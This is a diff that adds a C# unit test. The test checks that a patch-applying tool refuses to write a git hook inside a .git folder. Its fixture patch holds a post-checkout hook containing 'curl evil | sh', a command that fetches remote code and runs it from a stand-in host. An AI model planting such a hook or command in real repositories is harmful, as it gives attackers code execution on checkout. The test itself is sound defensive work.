@@ -50,6 +50,18 @@ public sealed class EditAtomicityTests : EditTestBase
     }
 
     [Fact]
+    public void Apply_GitHook_IsRefused()
+    {
+        Write(".git/HEAD", "ref: refs/heads/main\n");
+
+        var report = Apply("--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n");
+
+        report.Succeeded.ShouldBeFalse();
+        report.Describe().ShouldContain("'.git/hooks/post-checkout' is inside a .git folder");
+        Exists(".git/hooks/post-checkout").ShouldBeFalse();
+    }
+
+    [Fact]
     public void Apply_DryRun_ReportsChangesButWritesNothing()
     {
         Write("a.txt", "alpha\n");
